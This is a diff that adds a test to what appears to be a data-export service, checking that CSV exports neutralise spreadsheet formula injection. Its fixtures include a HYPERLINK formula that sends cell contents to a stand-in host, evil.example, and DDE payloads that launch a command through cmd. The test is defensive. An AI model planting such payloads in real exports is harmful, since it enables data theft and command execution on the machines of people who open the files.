@@ -316,3 +316,31 @@ def test_restricted_subjects_leave_the_audience(env):
     assert aud() == [sid]
     complete(env, new_request(env, sid, "restriction")["id"])
     assert aud() == []
+
+
+def test_csv_export_puts_a_quote_before_what_a_spreadsheet_would_run(env):
+    """OWASP's CSV injection: a cell that begins with = + - @, a tab or a
+    carriage return is a formula to a spreadsheet. The CSV export writes it
+    after a single quote; the JSON export keeps the value exactly."""
+    hostile = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "delivery_address": "+1+cmd|' /C calc'!A0",
+               "amount": "-2+3", "payment_ref": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    sid, _ = subject(env, email="formula@example.ee",
+                     extra=[{"kind": "accounting_entry", "fields": {"name": hostile["name"], "address": "\tTab",
+                                                                    "amount": "49.90",
+                                                                    "payment_ref": hostile["payment_ref"]}},
+                            {"kind": "order", "fields": {"name": "-2+3", "delivery_address": hostile["delivery_address"],
+                                                         "items": [{"sku": "KB-1"}], "amount": "49.90"}}])
+    req = new_request(env, sid, "access")
+    done = complete(env, req["id"])
+    e = env.request("GET", f"/v1/requests/{req['id']}/export", env.keys["dpo"]).json()
+    values = {v for r in e["records"] for v in r["fields"].values() if isinstance(v, str)}
+    assert {hostile["name"], hostile["delivery_address"], hostile["payment_ref"], "-2+3", "\tTab"} <= values
+    for csv_text in [env.request("GET", f"/v1/requests/{req['id']}/export?format=csv", env.keys["dpo"]).text,
+                     requests.get(done["export_url"], params={"format": "csv"}, timeout=10).text]:
+        assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in csv_text
+        assert ",'+1+cmd|' /C calc'!A0," in csv_text or ",'+1+cmd|' /C calc'!A0\r\n" in csv_text
+        assert ",'-2+3," in csv_text and "'@SUM(1+1)" in csv_text and ",'\tTab," in csv_text
+        for line in csv_text.splitlines():
+            for cell in line.split(","):
+                assert not cell.strip('"').startswith(("=", "+", "-2", "@")), cell
+        assert "Mari Tamm" in csv_text and ",49.90" in csv_text
